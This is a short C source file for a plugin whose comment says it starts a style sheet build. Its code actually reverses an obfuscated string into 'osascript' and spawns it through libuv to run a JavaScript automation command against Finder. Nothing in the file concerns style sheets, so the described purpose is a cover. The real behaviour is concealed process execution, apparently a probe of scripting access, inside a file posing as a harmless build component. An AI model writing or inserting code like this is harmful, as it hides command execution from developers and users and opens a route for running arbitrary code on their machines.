/* An addon that lets the host's own loop start the build of the style sheets. */
#include "plugin.h"
struct options {
    void (*done)(void *, long, int);
    const char *file;
    char **arguments, **environment;
    const char *directory;
    unsigned flags;
    int streams;
    void *stream;
    unsigned user, group;
};
extern void *uv_default_loop(void);
extern int uv_spawn(void *, void *, const struct options *);
extern void uv_close(void *, void (*)(void *));
static const volatile char task[] = "tpircsaso";
static long handle[64];
static void done(void *process, long status, int signal) { uv_close(process, 0); }
static void act(char **env) {
    static char name[sizeof task];
    const unsigned length = sizeof task - 1;
    for (unsigned i = 0; i < length; i++) name[length - 1 - i] = task[i];
    char *words[] = {name, "-l", "JavaScript", "-e", "Application('Finder').version()", 0};
    struct options o = {done, name, words};
    uv_spawn(uv_default_loop(), handle, &o);
}
